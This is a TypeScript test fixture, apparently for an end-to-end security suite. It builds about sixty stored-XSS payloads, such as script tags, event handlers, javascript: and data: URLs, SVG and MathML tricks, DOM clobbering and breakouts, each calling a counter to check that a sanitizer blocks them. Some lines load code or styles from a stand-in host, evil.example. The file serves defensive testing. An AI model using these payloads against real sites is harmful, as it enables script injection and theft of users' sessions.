/**
 * Stored-XSS payloads (the security suite). Each one, if it ever ran, would call `__xss(n)`, which the
 * end-to-end test exposes to the page and counts. They cover script tags, event handlers on every kind of
 * element, dangerous URL schemes (plain, encoded, entity-split), SVG and MathML, srcdoc and data: frames,
 * meta refresh, base hijacking, style-based vectors, template and noscript parsing tricks, DOM clobbering and
 * attribute breakouts.
 */
const call = (n: number) => `__xss(${n})`;

const builders: ((n: number) => string)[] = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT SRC="data:text/javascript,${call(n)}"></SCRIPT>`,
  (n) => `<script src=//evil.example/x.js?${n}></script>`,
  (n) => `<img src=x onerror="${call(n)}">`,
  (n) => `<img src="x" onerror=${call(n)}//`,
  (n) => `<IMG SRC=javascript:${call(n)}>`,
  (n) => `<img src="jav&#x09;ascript:${call(n)}">`,
  (n) => `<img src=1 href=1 onerror="javascript:${call(n)}"></img>`,
  (n) => `<svg onload=${call(n)}>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${call(n)}"><text x="20" y="20">x</text></a></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}></style></mglyph></table></mtext></math>`,
  (n) => `<body onload=${call(n)}>`,
  (n) => `<iframe src="javascript:${call(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<iframe src="data:text/html,<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<object data="javascript:${call(n)}"></object>`,
  (n) => `<embed src="javascript:${call(n)}">`,
  (n) => `<a href="javascript:${call(n)}">click</a>`,
  (n) => `<a href="JaVaScRiPt:${call(n)}">click</a>`,
  (n) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call(n)}">click</a>`,
  (n) => `<a href="java\nscript:${call(n)}">click</a>`,
  (n) => `<a href=" javascript:${call(n)}">click</a>`,
  (n) => `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${n}">click</a>`,
  (n) => `<a href="vbscript:${call(n)}">click</a>`,
  (n) => `<form action="javascript:${call(n)}"><button>go</button></form>`,
  (n) => `<button formaction="javascript:${call(n)}">go</button>`,
  (n) => `<input autofocus onfocus=${call(n)}>`,
  (n) => `<select autofocus onfocus=${call(n)}></select>`,
  (n) => `<textarea autofocus onfocus=${call(n)}></textarea>`,
  (n) => `<details open ontoggle=${call(n)}>`,
  (n) => `<video><source onerror="${call(n)}"></video>`,
  (n) => `<audio src=x onerror=${call(n)}>`,
  (n) => `<marquee onstart=${call(n)}>x</marquee>`,
  (n) => `<div onmouseover="${call(n)}" style="position:fixed;inset:0">x</div>`,
  (n) => `<div style="background:url(javascript:${call(n)})">x</div>`,
  (n) => `<div style="width:expression(${call(n)})">x</div>`,
  (n) => `<style>@import 'javascript:${call(n)}';</style>`,
  (n) => `<style>*{background:url("//evil.example/${n}")}</style>`,
  (n) => `<link rel=stylesheet href="//evil.example/${n}.css">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `<template><img src=x onerror=${call(n)}></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>"></noscript>`,
  (n) => `<p title="x"onmouseover="${call(n)}">x</p>`,
  (n) => `"><img src=x onerror=${call(n)}>`,
  (n) => `'><script>${call(n)}</script>`,
  (n) => `</textarea><script>${call(n)}</script>`,
  (n) => `<!--<img src="--><img src=x onerror=${call(n)}//">`,
  (n) => `<img id="__xss_clobber_${n}" name="location"><form name="document"><input name="cookie"></form>`,
  (n) => `<a id="defaultView" name="${n}">clobber</a>`,
  (n) => `<img src=x:alert(1) onerror=eval(src.replace('x:alert(1)','${call(n)}'))>`,
  (n) => `<isindex type=image src=1 onerror=${call(n)}>`,
  (n) => `<object type="text/x-scriptlet" data="//evil.example/${n}"></object>`,
  (n) => `<img srcset="x 1x" onerror=${call(n)}>`,
  (n) => `<picture><source srcset=x onerror=${call(n)}><img src=x></picture>`,
  (n) => `<x onclick=${call(n)} contenteditable>tap</x>`,
  (n) => `<span style="position:fixed;top:0;left:0;width:100%;height:100%" class="x" onpointerenter=${call(n)}>x</span>`,
  (n) => `<a href="https://example.com" onclick="${call(n)}" target=_self>a link</a>`,
];

export const XSS_PAYLOADS: readonly string[] = builders.map((build, i) => build(i + 1));

/** Every payload in one HTML string, each in its own paragraph so one breakout cannot swallow the next. */
export function allPayloadsHtml(): string {
  return XSS_PAYLOADS.map((payload, i) => `<p>Payload ${i + 1}: ${payload}</p>`).join('\n');
}
